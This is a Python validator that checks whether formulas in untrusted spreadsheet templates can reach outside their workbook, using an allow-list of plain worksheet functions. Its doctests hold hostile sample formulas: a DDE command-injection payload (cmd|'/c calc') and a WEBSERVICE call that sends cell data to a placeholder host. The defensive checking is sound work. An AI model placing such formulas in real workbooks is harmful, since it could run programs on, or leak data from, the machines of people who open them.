"""What a formula of a stranger's template may reach: cells of its own workbook, by functions that work on values alone."""

from __future__ import annotations

from jixiao.macros.formula.tokens import function_name, place_of, tokens

#: Functions of worksheets that neither fetch, call, nor read what is named by a text: no WEBSERVICE, RTD, CALL, INDIRECT.
_PLAIN = frozenset("""
    ABS AND AVERAGE AVERAGEIF AVERAGEIFS CEILING CHAR CHOOSE CLEAN CODE COLUMN COLUMNS CONCAT CONCATENATE COUNT
    COUNTA COUNTBLANK COUNTIF COUNTIFS DATE DATEDIF DATEVALUE DAY EDATE EOMONTH EXACT FALSE FIND FLOOR HLOOKUP IF
    IFERROR IFNA IFS INDEX INT ISBLANK ISERR ISERROR ISEVEN ISFORMULA ISLOGICAL ISNA ISNONTEXT ISNUMBER ISODD
    ISTEXT LARGE LEFT LEN LOOKUP LOWER MATCH MAX MAXIFS MEDIAN MID MIN MINIFS MOD MONTH N NA NOT NOW OFFSET OR
    POWER PRODUCT PROPER QUOTIENT RANK RANK.EQ REPLACE REPT RIGHT ROUND ROUNDDOWN ROUNDUP ROW ROWS SEARCH SIGN
    SMALL SQRT STDEV SUBSTITUTE SUBTOTAL SUM SUMIF SUMIFS SUMPRODUCT SWITCH T TEXT TEXTJOIN TODAY TRIM TRUE TRUNC
    UNICHAR UPPER VALUE VLOOKUP WEEKDAY XLOOKUP XOR YEAR
""".split())  # noqa: SIM905  a list would be a line each


def reaches_out(formula: str) -> bool:
    """Whether a formula may reach beyond its workbook: another workbook, a server, a program, a function that is not known.

    >>> reaches_out('AND(ISNUMBER($G5),$G5<评分!$A$1)'), reaches_out('"优,良,中,差"'), reaches_out("JX_RATE(A1,B1)=1")
    (False, False, False)
    >>> reaches_out('WEBSERVICE("http://x/"&A1)=""'), reaches_out("[1]表!$A$1:$A$9"), reaches_out("cmd|'/c calc'!A1")
    (True, True, True)
    """
    for token in tokens(formula):
        if token.kind == "broken" or (token.prefix and place_of(token.prefix).book):
            return True
        if token.kind == "reference" and "[" in token.text[len(token.prefix):]:  # A1:[1]表!B2
            return True
        if token.kind == "function":
            name = function_name(token).removeprefix("_XLFN.")
            if name not in _PLAIN and not name.startswith("JX_"):
                return True
    return False
